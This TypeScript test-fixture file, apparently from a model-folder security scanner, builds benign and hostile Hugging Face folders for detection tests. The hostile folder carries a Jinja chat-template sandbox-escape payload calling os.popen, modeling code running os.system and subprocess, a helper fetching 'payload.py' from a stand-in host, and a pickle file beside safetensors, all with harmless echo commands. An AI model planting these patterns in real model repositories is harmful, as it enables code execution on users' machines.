/**
 * Builds Hugging Face-style model folders as file trees (relative path → contents), benign and
 * hostile, and writes them to disk for tests. All payloads are harmless (`echo`), never executed.
 * `captureFolderFiles` does what the engine's per-file phase does for the folder analysis: it keeps
 * the text of the files `folderTextWanted` asks for, or says why there is none.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Finding } from '../src/findings/index.js';
import type { Limits } from '../src/limits/index.js';
import { DEFAULT_LIMITS } from '../src/limits/index.js';
import type { FolderFile } from '../src/model-scanners/index.js';
import { analyzeModelFolder, folderTextWanted } from '../src/model-scanners/index.js';
import { modelReporter } from './model-scan-helpers.js';
import { safetensorsFile } from './safetensors-builder.js';

export type FileTree = Record<string, string | Uint8Array>;

export const LLAMA3_CHAT_TEMPLATE =
  "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}";

/** A harmless template-injection payload (prints the OS id only if rendered unsandboxed). */
export const ESCAPE_CHAT_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('echo bulwark-demo').read() }}";

export function tinySafetensors(): Uint8Array {
  return safetensorsFile([{ name: 'lm_head.weight', dtype: 'F32', shape: [4, 4] }], { metadata: { format: 'pt' } });
}

/** A pickle byte stream (protocol 2) with only a harmless dict: for "pickle next to safetensors". */
export function tinyPickle(): Uint8Array {
  return Uint8Array.from([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]);
}

export function benignHfFolder(): FileTree {
  return {
    'config.json': JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', hidden_size: 4 }, null, 2),
    'tokenizer_config.json': JSON.stringify({ bos_token: '<s>', eos_token: '</s>', chat_template: LLAMA3_CHAT_TEMPLATE }, null, 2),
    'generation_config.json': JSON.stringify({ do_sample: false }),
    'model.safetensors': tinySafetensors(),
  };
}

export const HARMLESS_EVIL_MODELING = `"""Custom modeling code (a Bulwark demo: harmless payloads, never run by the scanner)."""
import os
import subprocess
from transformers import PreTrainedModel

from .helpers import fetch_more  # relative import: scanned too


class DemoModel(PreTrainedModel):
    # os.system("this comment is not code")
    def __init__(self, config):
        super().__init__(config)
        os.system("echo bulwark-demo")
        subprocess.run(["echo", "bulwark-demo"], check=False)

    def forward(self, x):
        return x
`;

export const HARMLESS_EVIL_HELPERS = `import urllib.request


def fetch_more():
    return urllib.request.urlopen("https://example.invalid/payload.py").read()
`;

/** A folder that shows every Hugging Face finding: remote code, template escape, pickle next to safetensors. */
export function hostileHfFolder(): FileTree {
  return {
    'config.json': JSON.stringify(
      {
        architectures: ['DemoModel'],
        model_type: 'demo',
        auto_map: { AutoConfig: 'configuration_demo.DemoConfig', AutoModelForCausalLM: 'modeling_demo.DemoModel', AutoModel: 'someone/other-repo--modeling_x.XModel' },
      },
      null,
      2,
    ),
    'configuration_demo.py': 'from transformers import PretrainedConfig\n\n\nclass DemoConfig(PretrainedConfig):\n    model_type = "demo"\n',
    'modeling_demo.py': HARMLESS_EVIL_MODELING,
    'helpers.py': HARMLESS_EVIL_HELPERS,
    'tokenizer_config.json': JSON.stringify({ bos_token: '<s>', chat_template: ESCAPE_CHAT_TEMPLATE }, null, 2),
    'model.safetensors': tinySafetensors(),
    'pytorch_model.bin': tinyPickle(),
  };
}

export function writeTree(root: string, tree: FileTree): string[] {
  const files: string[] = [];
  for (const [rel, content] of Object.entries(tree)) {
    const p = join(root, rel);
    mkdirSync(dirname(p), { recursive: true });
    writeFileSync(p, content);
    files.push(rel);
  }
  return files.sort();
}

/** The walked files of a folder on disk, with the text of the wanted ones (as the engine captures it). */
export function captureFolderFiles(root: string, rels: readonly string[], limits: Limits = DEFAULT_LIMITS): FolderFile[] {
  return rels.map((rel): FolderFile => {
    if (!folderTextWanted(rel)) return { rel };
    let bytes: Uint8Array;
    try {
      bytes = readFileSync(join(root, rel));
    } catch (e) {
      return { rel, unavailable: `read error: ${(e as Error).message}` };
    }
    if (bytes.length > limits.maxTextBytes) return { rel, unavailable: `larger than maxTextBytes (${limits.maxTextBytes} bytes)` };
    try {
      return { rel, text: new TextDecoder('utf-8', { fatal: true }).decode(bytes) };
    } catch {
      return { rel, unavailable: 'not UTF-8 text' };
    }
  });
}

/** Analyse a folder on disk as the engine does; returns every finding and what became a target. */
export function analyzeFolderOnDisk(root: string, rels: readonly string[], limits: Limits = DEFAULT_LIMITS): { findings: Finding[]; analyzed: ReadonlyMap<string, string>; partial: ReadonlySet<string> } {
  const reporter = modelReporter(limits);
  const { analyzed } = analyzeModelFolder(root, captureFolderFiles(root, rels, limits), limits, reporter);
  return { findings: reporter.finish(), analyzed, partial: reporter.partialPaths() };
}
